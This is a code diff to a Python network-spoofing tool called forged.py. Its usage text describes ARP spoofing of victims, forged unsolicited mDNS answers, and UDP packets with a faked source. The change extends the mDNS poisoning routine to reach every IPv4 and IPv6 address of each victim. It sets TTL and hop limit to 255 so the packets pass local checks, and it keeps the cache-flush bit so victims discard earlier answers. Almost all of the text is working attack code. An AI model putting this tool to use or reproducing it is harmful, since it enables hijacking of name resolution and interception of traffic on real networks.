@@ -2,8 +2,8 @@
 
 forged.py arp INTERFACE VICTIM-MAC ADDRESS [VICTIM-MAC ADDRESS]...
     tells each victim five times per second that ADDRESS is at this machine
-forged.py mdns INTERFACE VICTIM NAME ADDRESS
-    answers the victim twice per second that NAME is at ADDRESS, whether it asked or not
+forged.py mdns INTERFACE NAME ADDRESS VICTIM...
+    tells the victim, by all of its addresses, twice per second that NAME is at ADDRESS, whether it asked or not
 forged.py udp SOURCE ADDRESS PORT
     sends one packet that SOURCE seems to have sent
 """
@@ -33,17 +33,26 @@ def arp(interface, *pairs):
         time.sleep(0.2)
 
 
-def mdns(interface, victim, name, address):
-    wire = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-    wire.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
-    wire.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, interface.encode())
-    wire.setsockopt(socket.IPPROTO_IP, socket.IP_TTL, 255)
-    wire.bind(("", 5353))
+def mdns(interface, name, address, *victims):
+    wires = []
+    for victim in victims:
+        family, _, _, _, place = socket.getaddrinfo(victim, 5353, type=socket.SOCK_DGRAM)[0]
+        wire = socket.socket(family, socket.SOCK_DGRAM)
+        # Nothing that has come through a router is believed.
+        if family == socket.AF_INET6:
+            wire.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
+            wire.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_UNICAST_HOPS, 255)
+        else:
+            wire.setsockopt(socket.IPPROTO_IP, socket.IP_TTL, 255)
+        wire.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, interface.encode())
+        wire.bind(("", 5353))
+        wires.append((wire, place))
     labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split(".")) + b"\0"
     # One answer: type A, class IN with the bit that makes others forget what they heard before.
     answer = struct.pack("!6H", 0, 0x8400, 0, 1, 0, 0) + labels + struct.pack("!HHIH", 1, 0x8001, 120, 4) + socket.inet_aton(address)
     while True:
-        wire.sendto(answer, (victim, 5353))
+        for wire, place in wires:
+            wire.sendto(answer, place)
         time.sleep(0.5)
 
 
